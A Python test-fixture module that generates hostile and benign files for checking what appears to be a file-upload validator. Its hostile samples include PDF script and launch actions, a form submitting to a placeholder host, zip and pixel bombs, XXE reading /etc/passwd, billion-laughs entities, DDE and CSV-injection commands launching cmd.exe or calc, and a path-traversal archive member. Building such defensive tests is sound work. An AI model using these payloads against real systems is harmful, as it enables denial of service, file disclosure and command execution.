"""Hostile and honest files of our own making. Each hostile one names the sentence that must answer it."""

# ruff: noqa: E501  (the table reads better in lines)

import io
import struct
import zipfile
import zlib

import openpyxl
import pikepdf
from PIL import Image

MB = 1024 * 1024
PLACE = {1: "S", 2: (12.0, 3.0, 15.0), 3: "W", 4: (77.0, 1.0, 40.0)}  # GPS of a photo taken in Lima
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TYPES = b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def saved(document, **how):
    out = io.BytesIO()
    if isinstance(document, pikepdf.Pdf) and not how.get("encryption"):
        how["deterministic_id"] = True
    document.save(out, **how)
    return out.getvalue()


def pdf(change=None, **how):
    """A PDF of one page; `change` receives the document before it is saved."""
    document = pikepdf.new()
    document.add_blank_page()
    if change:
        change(document)
    return saved(document, **how)


def photo(kind="JPEG", size=(640, 480), comment=b"", place=True):
    """A photo that tells where it was taken."""
    image = Image.effect_noise(size, 40).convert("RGB")
    exif = Image.Exif()
    exif[0x0112], exif[0x010F] = 6, "Fabricante de prueba"
    if place:
        exif.get_ifd(0x8825).update(PLACE)
    out = io.BytesIO()
    more = {"comment": comment} if comment else {}
    image.save(out, kind, exif=exif.tobytes(), **more)
    return out.getvalue()


def xlsx(rows=(("Mes", "kWh"), ("Enero", 1250.5))):
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    return saved(book)


def archive(members, method=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as made:
        for name, content in members:
            made.writestr(name, content)
    return out.getvalue()


def docx(body="<w:p><w:r><w:t>Política de agua</w:t></w:r></w:p>", *more, types=TYPES):
    document = f"<w:document {W}><w:body>{body}</w:body></w:document>"
    return archive([("[Content_Types].xml", types), ("word/document.xml", document), *more])


def relations(kind, target, mode="External"):
    text = f'<Relationships><Relationship Id="r1" Type="{RELATION}/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
    return ("word/_rels/document.xml.rels", text)


def with_script(document):
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def with_launch(document):
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")


def with_attachment(document):
    document.attachments["nota.exe"] = b"MZ"


def with_form(document):
    document.Root.AcroForm = pikepdf.Dictionary(XFA=document.make_stream(b"<xdp/>"))


def with_movie(document):
    document.pages[0].Annots = document.make_indirect(
        pikepdf.Array([pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.RichMedia)])
    )


def with_submit(document):
    document.pages[0].AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="http://a.example"))


def with_bomb(document):
    document.pages[0].Contents = document.make_stream(b"\0" * (150 * MB))


def with_nested_bomb(document):
    stream = pikepdf.Stream(document, zlib.compress(zlib.compress(b"\0" * (150 * MB))))
    stream.Filter = pikepdf.Array([pikepdf.Name.FlateDecode, pikepdf.Name.FlateDecode])
    document.pages[0].Contents = document.make_indirect(stream)


def with_huge_image(document):
    image = pikepdf.Stream(document, zlib.compress(b"\0" * 1000))
    image.update({"/Subtype": pikepdf.Name.Image, "/Width": 60_000, "/Height": 60_000})
    document.pages[0].Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(I=document.make_indirect(image)))


def with_pages(document):
    for _page in range(600):
        document.add_blank_page()


def hidden_script():
    """The name of the key written in another way, inside a packed object."""
    plain = pdf(with_script, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return plain.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/J#53")


def packed_bomb():
    """An object stream, which a library expands while it opens the file, of 100 MB."""
    body = zlib.compress(b"1 0 " + b" " * (100 * MB), 9)
    head = f"%PDF-1.5\n1 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length {len(body)}>>\nstream\n"
    return head.encode() + body + b"\nendstream\nendobj\ntrailer<</Root 2 0 R>>\nstartxref\n0\n%%EOF\n"


def pixel_bomb():
    """A PNG that says it is 60,000 pixels wide and high."""

    def part(name, content):
        return struct.pack("!I", len(content)) + name + content + struct.pack("!I", zlib.crc32(name + content))

    head = struct.pack("!IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + part(b"IHDR", head) + part(b"IDAT", zlib.compress(b"\0" * MB)) + part(b"IEND", b"")


def lying_sizes():
    """A member that says it is small and holds 120 MB."""
    made = bytearray(docx("<w:p/>", ("word/media.xml", b"<a>" + b" " * (120 * MB) + b"</a>")))
    place = made.find(b"word/media.xml", made.find(b"PK\x01\x02"))
    made[place - 46 + 24 : place - 46 + 28] = struct.pack("<I", 1000)
    return bytes(made)


def overlapping(count=200):
    """One piece of data that every member claims as its own."""
    kernel = docx("<w:p/>", *[(f"word/m{n}.xml", b"<a/>") for n in range(count)])
    made, first = bytearray(kernel), kernel.find(b"word/m0.xml") - 30
    at = made.find(b"PK\x01\x02")
    while at > 0:
        if made[at + 46 : at + 52] == b"word/m":
            made[at + 42 : at + 46] = struct.pack("<I", first)
        at = made.find(b"PK\x01\x02", at + 4)
    return bytes(made)


LAUGHS = b'<!DOCTYPE a [<!ENTITY l "ja"><!ENTITY m "' + b"&l;" * 5000 + b'">]><a>' + b"&m;" * 5000 + b"</a>"
BOOK = b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'
OUTSIDE = b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'


def split_field():
    """A DDE field whose name is cut in pieces."""
    runs = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in ("DD", "EAU", "TO c:\\\\cmd.exe"))
    return docx(f"<w:p>{runs}</w:p>")


HOSTILE = {
    "empty": ("vacio.pdf", lambda: b"", "empty"),
    "program called PDF": ("factura.pdf", lambda: b"MZ\x90" + b"\0" * 500, "kind"),
    "page with a script": ("nota.html", lambda: b"<html><script>alert(1)</script></html>", "kind"),
    "page called CSV": ("nota.csv", lambda: b"<html><script>alert(1)</script>,</html>", "kind"),
    "drawing with a script": ("logo.svg", lambda: b"<svg onload='alert(1)'/>", "kind"),
    "drawing called PNG": ("logo.png", lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "kind"),
    "settings of a server": (".htaccess", lambda: b"AddType application/x-httpd-php .pdf\n", "kind"),
    "animation": ("a.gif", lambda: b"GIF89a" + b"\0" * 50, "kind"),
    "old spreadsheet": ("a.xls", lambda: bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 600, "old_office"),
    "PDF that begins late": ("a.pdf", lambda: b"<script>alert(1)</script>\n" + pdf(), "kind"),
    "truncated PDF": ("a.pdf", lambda: pdf()[:200], "incomplete"),
    "PDF of nothing": ("a.pdf", lambda: b"%PDF-1.7\nnada\n%%EOF\n", "broken"),
    "PDF with a password": ("a.pdf", lambda: pdf(encryption=pikepdf.Encryption(owner="a", user="b")), "password"),
    "protected PDF": ("a.pdf", lambda: pdf(encryption=pikepdf.Encryption(owner="a", user="")), "protected"),
    "script in a PDF": ("a.pdf", lambda: pdf(with_script), "script"),
    "hidden script": ("a.pdf", hidden_script, "script"),
    "packed script": ("a.pdf", lambda: pdf(with_script, object_stream_mode=pikepdf.ObjectStreamMode.generate), "script"),
    "PDF that starts a program": ("a.pdf", lambda: pdf(with_launch), "launch"),
    "PDF that sends data": ("a.pdf", lambda: pdf(with_submit), "launch"),
    "PDF with an attachment": ("a.pdf", lambda: pdf(with_attachment), "attached"),
    "dynamic form": ("a.pdf", lambda: pdf(with_form), "xfa"),
    "film in a PDF": ("a.pdf", lambda: pdf(with_movie), "media"),
    "PDF bomb": ("a.pdf", lambda: pdf(with_bomb), "expands"),
    "PDF bomb within": ("a.pdf", lambda: pdf(with_nested_bomb), "expands"),
    "packed PDF bomb": ("a.pdf", packed_bomb, "expands"),
    "image too large in a PDF": ("a.pdf", lambda: pdf(with_huge_image), "pixels"),
    "601 pages": ("a.pdf", lambda: pdf(with_pages), "pages"),
    "PDF and archive": ("a.pdf", lambda: pdf() + archive([("a.exe", b"MZ")]), "two_in_one"),
    "photo and archive": ("a.jpg", lambda: photo() + archive([("a.class", b"\xca\xfe")]), "two_in_one"),
    "truncated photo": ("a.jpg", lambda: photo()[:9000], "broken"),
    "truncated PNG": ("a.png", lambda: photo("PNG", place=False)[:9000], "broken"),
    "pixel bomb": ("a.png", pixel_bomb, "pixels"),
    "broken WebP": ("a.webp", lambda: b"RIFF\x24\0\0\0WEBPVP8 " + b"\xff" * 40, "broken"),
    "broken HEIC": ("a.heic", lambda: b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\xff" * 400, "broken"),
    "plain archive": ("a.docx", lambda: archive([("a.txt", b"hola")]), "kind"),
    "truncated spreadsheet": ("a.xlsx", lambda: xlsx()[:3000], "broken"),
    "60,000 members": ("a.docx", lambda: docx("", *[(f"m{n}", b"") for n in range(60_000)]), "members"),
    "archive bomb": ("a.docx", lambda: docx("", ("word/a.xml", b"<a>" + b" " * (120 * MB) + b"</a>")), "expands"),
    "dense member": ("a.docx", lambda: docx("", ("word/a.xml", b"<a>" + b" " * (40 * MB) + b"</a>")), "expands"),
    "lying sizes": ("a.docx", lying_sizes, "expands"),
    "members on top of one another": ("a.docx", overlapping, "two_in_one"),
    "data before the archive": ("a.docx", lambda: b"PK\x03\x04<script>" + docx(), "two_in_one"),
    "archive in an archive": ("a.docx", lambda: docx("", ("word/media/a.zip", archive([("b", b"")]))), "inserted"),
    "archive called image": ("a.docx", lambda: docx("", ("word/media/a.png", archive([("b", b"")]))), "inserted"),
    "object in a document": ("a.docx", lambda: docx("", ("word/embeddings/o.bin", b"\xd0\xcf\x11\xe0")), "inserted"),
    "macros": ("a.xlsm", lambda: archive([("[Content_Types].xml", TYPES), ("xl/workbook.xml", BOOK), ("xl/vbaProject.bin", b"")]), "macros"),
    "macros by type": ("a.docx", lambda: docx(types=b'<Types><Override ContentType="x.macroEnabled.main+xml"/></Types>'), "macros"),
    "laughs": ("a.docx", lambda: docx("", ("word/a.xml", LAUGHS)), "entities"),
    "file of the server": ("a.docx", lambda: docx("", ("word/a.xml", OUTSIDE)), "entities"),
    "entities in another encoding": ("a.docx", lambda: docx("", ("word/a.xml", OUTSIDE.decode().encode("utf-16"))), "entities"),
    "remote template": ("a.docx", lambda: docx("", relations("attachedTemplate", "http://a.example/t.dotm")), "external"),
    "remote image": ("a.docx", lambda: docx("", relations("image", "file://a.example/x.png")), "external"),
    "link that runs": ("a.docx", lambda: docx("", relations("hyperlink", "javascript:alert(1)")), "external"),
    "link to another workbook": ("a.xlsx", lambda: archive([("[Content_Types].xml", TYPES), ("xl/workbook.xml", BOOK), ("xl/externalLinks/externalLink1.xml", b"<a/>")]), "external"),
    "DDE": ("a.docx", lambda: docx('<w:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe"/>'), "dde"),
    "DDE in pieces": ("a.docx", split_field, "dde"),
    "member that climbs": ("a.docx", lambda: docx("", ("../../etc/cron.d/a", b"")), "broken"),
    "encrypted spreadsheet": ("a.xlsx", lambda: archive([("EncryptedPackage", b"")]), "password"),
    "formula in CSV": ("a.csv", lambda: b"mes;kWh\nenero;=1+1\n", "formula"),
    "DDE in CSV": ("a.csv", lambda: b"mes;kWh\nenero;-2+3+cmd|' /C calc'!A0\n", "formula"),
    "one endless cell": ("a.csv", lambda: b"a;" + b"x" * (5 * MB), "csv_row"),
    "CSV with zeros": ("a.csv", lambda: b"a;b\0\n1;2\n", "kind"),
    "too many rows": ("a.csv", lambda: b"1;2\n" * 300_000, "rows"),
    "text without columns": ("a.txt", lambda: b"hola\n", "no_columns"),
}  # fmt: skip


def plain_pdf():
    """As many programs write it: the length of a stream is an object of its own, and one object is nothing."""
    bodies = [
        b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R>>",
        b"<</Length 5 0 R>>\nstream\n0 0 m\nendstream", b"5", b"null",
    ]  # fmt: skip
    written, places = b"%PDF-1.4\n", []
    for number, body in enumerate(bodies, 1):
        places.append(b"%010d 00000 n \n" % len(written))
        written += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"xref\n0 7\n0000000000 65535 f \n" + b"".join(places) + b"trailer\n<</Size 7/Root 1 0 R>>\n"
    return written + table + b"startxref\n%d\n%%%%EOF\n" % len(written)


HONEST = {
    "PDF": ("acta.pdf", pdf, "application/pdf"),
    "PDF with numbers that are objects": ("plano.pdf", plain_pdf, "application/pdf"),
    "PDF that speaks of scripts": ("js.pdf", lambda: pdf(lambda d: d.docinfo.update({"/Title": "/JS y /Launch"})), "application/pdf"),
    "photo": ("foto.jpg", photo, "image/jpeg"),
    "picture": ("plano.png", lambda: photo("PNG"), "image/png"),
    "WebP": ("foto.webp", lambda: photo("WEBP"), "image/webp"),
    "spreadsheet": ("luz.xlsx", xlsx, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    "letter": ("carta.docx", docx, "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    "letter with a link": ("carta.docx", lambda: docx("<w:p/>", relations("hyperlink", "https://a.example/")), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    "CSV": ("luz.csv", lambda: "mes;kWh;tel\nenero;-12,5;+51 999\nñandú;-;ok\n".encode(), "text/csv"),
    "CSV of Excel in Peru": ("luz.csv", lambda: "mes,kWh\nAño,12\n".encode("cp1252"), "text/csv"),
}  # fmt: skip
